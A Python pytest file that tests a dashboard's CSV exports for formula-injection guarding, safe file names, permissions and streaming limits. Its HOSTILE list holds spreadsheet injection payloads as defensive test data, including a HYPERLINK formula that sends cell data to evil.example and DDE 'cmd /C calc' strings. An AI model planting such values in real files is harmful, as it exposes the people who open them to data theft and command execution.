"""Lists as CSV: the very rows of the page, harmless to open, honest when they are not complete."""

from __future__ import annotations

import csv
import io
import re
import tracemalloc
from dataclasses import replace
from datetime import date, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dashboard.csv import bared, disposition, file_name, guarded, stream
from tenants import clock as clocks
from tenants import ids, keys, store
from tenants.errors import Unavailable
from tenants.items import Base, Card, Event, Membership, Task
from tenants.policy import Priority, Role, Status
from tenants.reads import slices
from tenants.writes import orgs, tasks, wishes
from tests.cast import ACME, NOW, Cast, a_project, a_task, an_account
from tests.dashboard.conftest import once
from tests.dashboard.routes import BY_NAME, DOWNLOADS
from tests.dashboard.visitor import Answer, Visitor
from tests.tenants.partition import delete_raw, set_raw

HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\uff1d1+1",
    "'=1",
    "''quoted''",
    'say "hello", twice',
    "a;=1+1;b",
    "a, b; c",
    "Zürich, Łódź, 東京, 👩‍👩‍👧",
    "עברית",
    "<b>&amp;</b>",
)
FORMULA = re.compile(r"[=+\-@\t\r\n\0\uff1d\uff0b\uff0d\uff20]")


def table(answer: Answer) -> list[list[str]]:
    """The file as a program reads it: the header first."""
    assert answer.status == 200
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(answer.body.decode("utf-8"), newline=""), strict=True))


def rows(answer: Answer) -> list[dict[str, str]]:
    head, *lines = table(answer)
    assert all(len(line) == len(head) for line in lines)
    return [dict(zip(head, map(bared, line), strict=True)) for line in lines]


def links(answer: Answer) -> list[str]:
    return [a.attributes["href"] for a in answer.page.one(class_="ways download").all("a")]


@given(st.text(alphabet="=+-@\t\r\n\0'\" ;,a\uff1d"))
def test_no_cell_begins_a_formula_and_every_text_comes_back(text: str) -> None:
    cell = guarded(text)
    assert not FORMULA.match(cell)
    assert not re.search(r"[;\t\r\n][ \xa0\"]*[=+\-@]", cell)
    assert bared(cell) == text


def test_a_text_that_is_no_formula_stays_as_it_is() -> None:
    for text in ("", "Write it down", "a = b", "x-y", "'tis", "10 %", "me@example.org", "a; b"):
        assert guarded(text) == text


@pytest.fixture
def full(cast: Cast) -> None:
    """Hostile titles and names on every page."""
    once("downloads", lambda: fill(cast))


def fill(cast: Cast) -> None:
    project = a_project(cast.alice, title="=cmd|'/C calc'!A0")
    for number, title in enumerate(HOSTILE):
        due = date(2026, 9, 1 + number) if number % 2 else None
        when = NOW + timedelta(seconds=number)
        priority = list(Priority)[number % 4]
        task = a_task(cast.bob, project, title=title, due=due, priority=priority, assignee=cast.bob.user, now=when)
        if number % 5 == 0:
            tasks.complete(cast.bob, task, NOW)
        elif number % 5 == 1:
            tasks.start(cast.bob, task, NOW)
    for number, title in enumerate(HOSTILE[:8]):
        a_project(cast.alice, title=title, now=NOW + timedelta(seconds=number))
    orgs.join(cast.alice, ACME, an_account("=1+1"), Role.MEMBER, NOW)


@pytest.mark.usefixtures("full")
@pytest.mark.parametrize("status", [Status.OPEN, Status.DOING])
@pytest.mark.parametrize("priority", [None, *Priority])
def test_the_rows_of_the_file_are_those_of_the_list_and_as_many_as_its_number(
    alice: Visitor, status: Status, priority: Priority | None
) -> None:
    query = f"?status={status}" + (f"&priority={priority}" if priority else "")
    page = alice.get(f"/org/{ACME}/tasks{query}")
    plain, excel = links(page)
    assert plain == f"/org/{ACME}/tasks.csv{query}"
    assert excel == f"{plain}&bom=1"
    found = rows(alice.get(plain))
    shown = page.page.all("li", class_="task")
    assert [row["Title"] for row in found] == [li.one(class_="task-title").text for li in shown]
    assert all((row["Status"], row["Assignee"]) == (status, "Bob") for row in found)
    number = page.page.one("h2", id="slice-h").text.split()[0]
    assert len(found) == int(number)
    assert {row["Priority"] for row in found} <= ({priority} if priority else set(Priority))


@pytest.mark.usefixtures("full")
def test_a_projects_file_has_all_its_tasks_with_their_content(alice: Visitor) -> None:
    project = next(p for p in slices.projects(ACME, _user(alice)).projects if p.title.startswith("=cmd"))
    path = BY_NAME["project"].at(ACME, project.id)
    page = alice.get(path)
    found = rows(alice.get(links(page)[0]))
    assert [row["Title"] for row in found] == list(reversed(HOSTILE))
    assert len(found) == project.counts.of(Status.OPEN) + project.counts.of(Status.DOING) + project.done
    assert {row["Project"] for row in found} == {"=cmd|'/C calc'!A0"}
    done = [row for row in found if row["Status"] == "done"]
    assert len(done) == project.done == 3
    assert {(row["Completed"], row["Completed by"]) for row in done} == {("2026-09-15T12:00:00+02:00", "Bob")}
    assert {row["Due"] for row in found} == {"", *(f"2026-09-{1 + n:02d}" for n in range(1, len(HOSTILE), 2))}
    assert all(row["Link"].startswith(f"http://127.0.0.1:8000{path}/tasks/") for row in found)


def _user(visitor: Visitor) -> str:
    return str(visitor.get("/").response.wsgi_request.viewer.user)


@pytest.mark.usefixtures("full")
def test_the_other_lists_have_the_rows_of_their_pages_too(alice: Visitor) -> None:
    page = alice.get(f"/org/{ACME}/projects")
    found = rows(alice.get(links(page)[0]))
    assert [row["Title"] for row in found] == [a.text for a in page.page.all("a", class_="project-title")]
    assert len(found) == 9
    assert {row["Created"][-6:] for row in found} == {"+02:00"}

    page = alice.get(f"/org/{ACME}/members")
    found = rows(alice.get(links(page)[0]))
    names = [row["Name"] for row in found]
    assert sorted(names) == ["=1+1", "Alice", "Bob", "Dana", "Vic"]
    assert len(found) == len(page.page.one("ul", class_="people").children)

    page = alice.get(f"/org/{ACME}/leaderboard")
    found = rows(alice.get(links(page)[0]))
    assert found == [{"Month": "2026-09", "Place": "1", "Name": "Bob", "Done": "3"}]

    page = alice.get(f"/org/{ACME}/activity")
    found = rows(alice.get(links(page)[0]))
    assert len(found) == 1 + 3 + len(HOSTILE) * 1 + 3 + 3 + 9 + 1
    assert found[0]["Time"] == "2026-09-15T12:00:13+02:00"
    assert {row["What"] for row in found} >= set(HOSTILE)


@pytest.mark.usefixtures("full")
@pytest.mark.parametrize("name", sorted(DOWNLOADS - {"project-csv", "archive-csv", "member-csv"}))
def test_no_cell_and_no_header_of_any_file_begins_a_formula(alice: Visitor, name: str) -> None:
    for line in table(alice.get(BY_NAME[name].at(ACME))):
        for cell in line:
            assert not FORMULA.match(cell), cell


def test_ones_own_tasks_and_a_filtered_board_are_files_too(cast: Cast, bob: Visitor) -> None:
    project = a_project(cast.alice)
    for number in range(4):
        priority, assignee = list(Priority)[number], [cast.bob.user, None][number % 2]
        a_task(cast.alice, project, title=f"Task {number}", priority=priority, assignee=assignee)
    for path in (
        f"/org/{ACME}/tasks?mine=1",
        f"/org/{ACME}/tasks?mine=1&priority=high",
        f"/org/{ACME}/projects/{project}?priority=high",
        f"/org/{ACME}/projects/{project}?assignee=me",
        f"/org/{ACME}/members/{cast.bob.user}",
        "/",
    ):
        page = bob.get(path)
        shown = sorted(a.text for a in page.page.all("a", class_="task-title"))
        assert 0 < len(shown) < 4
        assert sorted(row["Title"] for row in rows(bob.get(links(page)[0]))) == shown


def test_who_does_not_want_to_be_ranked_is_not_in_the_file_either(cast: Cast, alice: Visitor) -> None:
    project = a_project(cast.alice)
    for actor in (cast.alice, cast.bob):
        tasks.complete(actor, a_task(cast.alice, project), NOW)
    path = f"/org/{ACME}/leaderboard.csv"
    assert {row["Name"] for row in rows(alice.get(path))} == {"Alice", "Bob"}
    wishes.rank_me(cast.bob, ACME, NOW, ranked=False)
    assert [row["Name"] for row in rows(alice.get(path))] == ["Alice"]


def test_a_header_that_a_translation_made_a_formula_is_harmless_too() -> None:
    assert next(stream(["=Title"], [], "UTC", bom=False)) == b"'=Title\r\n"


def test_addresses_are_in_the_file_for_those_alone_who_see_them_on_the_page(
    alice: Visitor, dana: Visitor, bob: Visitor, vic: Visitor
) -> None:
    path = f"/org/{ACME}/members.csv"
    for visitor in (alice, dana):
        assert len([row for row in rows(visitor.get(path)) if row["E-mail"]]) == 4
    assert [row["E-mail"] for row in rows(bob.get(path)) if row["E-mail"]] == ["bob@example.org"]
    assert [row["E-mail"] for row in rows(vic.get(path)) if row["E-mail"]] == ["vic@example.org"]


def test_a_file_is_rfc_4180_with_a_byte_order_mark_only_on_request(alice: Visitor, cast: Cast) -> None:
    a_task(cast.bob, a_project(cast.alice), title='He said "a, b"', due=date(2026, 9, 30))
    body = alice.get(f"/org/{ACME}/tasks.csv").body
    assert body.startswith(b"Title,Status,Priority,Due,Assignee,Project,Link\r\n")
    assert b'"He said ""a, b""",open,medium,2026-09-30,,Launch,http://' in body
    assert body.endswith(b"\r\n")
    assert body.count(b"\n") == body.count(b"\r\n") == 2
    assert alice.get(f"/org/{ACME}/tasks.csv?bom=1").body == b"\xef\xbb\xbf" + body


def test_a_file_says_what_it_is_and_is_not_kept(alice: Visitor, cast: Cast) -> None:
    headers = alice.get(f"/org/{ACME}/tasks.csv?status=doing&priority=high").headers
    assert headers["Content-Disposition"] == (
        'attachment; filename="acme-works-tasks-doing-high-2026-09-15.csv"; '
        "filename*=UTF-8''acme-works-tasks-doing-high-2026-09-15.csv"
    )
    assert headers["Cache-Control"] == "no-store"
    assert "Content-Length" not in headers
    project = a_project(cast.alice, title='Größe/../"x"; 東京\u202e')
    headers = alice.get(BY_NAME["project-csv"].at(ACME, project)).headers
    assert headers["Content-Disposition"] == (
        'attachment; filename="acme-works-project-Groe-x-2026-09-15.csv"; '
        "filename*=UTF-8''acme-works-project-Gr%C3%B6%C3%9Fe-x-%E6%9D%B1%E4%BA%AC-2026-09-15.csv"
    )


@given(st.text(max_size=300))
def test_a_file_name_needs_no_care_whatever_a_title_is(title: str) -> None:
    header = disposition(file_name("acme-works", title), "csv")
    assert re.fullmatch(r"attachment; filename=\"[A-Za-z0-9.-]+\"; filename\*=UTF-8''[A-Za-z0-9%._~-]+", header)
    assert len(header) < 1_000


@pytest.mark.parametrize(
    "path", ["tasks.csv?status=done", "tasks.csv?priority=x", "leaderboard.csv?month=2026-13", "activity.csv?month=1"]
)
def test_what_is_no_page_is_no_file(alice: Visitor, path: str) -> None:
    assert alice.get(f"/org/{ACME}/{path}").status == 404


def many(count: int, project: str, org: str = ACME) -> None:
    """Tasks, projects, members and events without the counters that go with them."""
    now = clocks.to_text(NOW)
    with Base.batch_write() as batch:
        for number in range(count):
            made = ids.derived_task_id(NOW, str(number))
            batch.save(
                Task.at(
                    keys.task(org, project, made),
                    title=f"={number}",
                    status=Status.OPEN,
                    priority=Priority.HIGH,
                    created_at=now,
                    gsi2pk=keys.by_status_pk(org, Status.OPEN),
                    gsi2sk=keys.by_status_sk(1, None, made),
                )
            )
            batch.save(Card.at(keys.card(org, ids.derived_project_id(NOW, str(number))), title="One of many"))
            user = ids.derived_id(10, str(number))
            batch.save(Membership.at(keys.membership(org, user), role=Role.MEMBER, name="Many", org_name="Acme"))
            batch.save(Event.at(keys.event(org, "2026-09", now, f"{number:06d}"), action="task-created"))


RECORDED = {"members-csv"}
"""Lists of which the audit tells who took them out."""


@pytest.mark.parametrize(
    ("name", "pages", "asked"),
    [
        ("tasks-csv", 3, [("Query", "dashboard"), ("Query", "tasks")]),
        ("project-csv", 2, [("BatchGetItem", "board-frame"), ("Query", "board")]),
        ("projects-csv", 5, [("GetItem", "frame"), ("Query", "projects")]),
        ("members-csv", 3, [("GetItem", "frame"), ("Query", "members")]),
        ("activity-csv", 3, [("GetItem", "frame"), ("Query", "activity")]),
        ("leaderboard-csv", 1, [("GetItem", "frame"), ("Query", "trend")]),
    ],
)
def test_a_file_costs_what_the_pages_of_its_list_cost(
    cast: Cast, alice: Visitor, name: str, pages: int, asked: list[tuple[str, str]]
) -> None:
    project = a_project(cast.alice)
    many(110, project)
    answer = alice.get(BY_NAME[name].at(ACME, project))
    recorded = [("BatchGetItem", "write"), ("TransactWriteItems", "write")] if name in RECORDED else []
    assert answer.asked == asked + recorded + asked * (pages - 1)
    if name != "leaderboard-csv":
        assert len(rows(answer)) >= 110


def test_head_reads_no_more_than_the_first_page(cast: Cast, alice: Visitor, monkeypatch: pytest.MonkeyPatch) -> None:
    # The test's client throws the body away unread; a real server reads it to the end and sends nothing of it.
    monkeypatch.setattr("django.test.client.conditional_content_removal", lambda _request, response: response)
    many(110, a_project(cast.alice))
    answer = alice._ask("head", f"/org/{ACME}/tasks.csv", {}, {})
    assert (answer.status, answer.body, len(answer.calls)) == (200, b"", 2)
    assert "attachment" in answer.headers["Content-Disposition"]


def test_a_file_whose_end_cannot_be_read_says_so_in_its_last_line_and_is_cut(
    cast: Cast, alice: Visitor, monkeypatch: pytest.MonkeyPatch
) -> None:
    many(110, a_project(cast.alice))
    response = alice.client.get(f"/org/{ACME}/tasks.csv")
    pieces = iter(response)
    got = [next(pieces), next(pieces)]

    def away(*_: object, **__: object) -> None:
        raise Unavailable(store.AWAY)

    monkeypatch.setattr(store, "query", away)
    got.append(next(pieces))
    with pytest.raises(Unavailable):
        next(pieces)
    lines = list(csv.reader(io.StringIO(b"".join(got).decode(), newline="")))
    assert len(lines) == 1 + 50 + 1
    assert lines[-1][0].startswith("THIS FILE IS INCOMPLETE. The database does not answer right now.")


def test_somebody_who_is_put_out_in_the_middle_gets_no_row_more(cast: Cast, vic: Visitor) -> None:
    many(110, a_project(cast.alice))
    pieces = iter(vic.client.get(f"/org/{ACME}/tasks.csv"))
    assert [next(pieces).count(b"\r\n") for _ in range(2)] == [1, 50]
    delete_raw(keys.membership(ACME, cast.vic.user))
    people = {user: {"S": f"{p.role}||{p.name}"} for user, p in slices.frame(ACME, cast.vic.user).people.items()}
    set_raw(keys.metadata(ACME), "people", {"M": {u: p for u, p in people.items() if u != cast.vic.user}})
    assert b"THIS FILE IS INCOMPLETE. There is no such organisation." in next(pieces)
    with pytest.raises(Exception, match="no such organisation"):
        next(pieces)


def test_a_slow_reader_is_given_up_in_the_end(cast: Cast, alice: Visitor, monkeypatch: pytest.MonkeyPatch) -> None:
    many(110, a_project(cast.alice))
    pieces = iter(alice.client.get(f"/org/{ACME}/tasks.csv"))
    next(pieces), next(pieces)
    monkeypatch.setattr("dashboard.views.downloads.SECONDS_IN_ALL", 0)
    monkeypatch.setattr("dashboard.views.downloads.time.monotonic", lambda: 1e12)
    assert b"It took too long" in next(pieces)


def test_a_file_of_any_length_takes_the_memory_of_a_page(
    cast: Cast, alice: Visitor, monkeypatch: pytest.MonkeyPatch
) -> None:
    a_task(cast.alice, a_project(cast.alice), title="=" * 200)
    first = slices.tasks(ACME, cast.alice.user, Status.OPEN, None, NOW)

    def peak_of(pages: int) -> int:
        def page(*asked: object) -> slices.Tasks:
            number = int(str(asked[-1] or 0)) + 1
            rows = tuple(replace(first.tasks[0], title=f"{n} {'=' * 190}") for n in range(50))
            return replace(first, tasks=rows, next_cursor=str(number) if number < pages else "")

        monkeypatch.setattr(slices, "tasks", page)
        pieces = iter(alice.client.get(f"/org/{ACME}/tasks.csv"))
        tracemalloc.start()
        try:
            assert sum(len(piece) for piece in pieces) > pages * 50 * 300
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    peak_of(2)
    assert peak_of(200) < 2 * peak_of(2) + 50_000
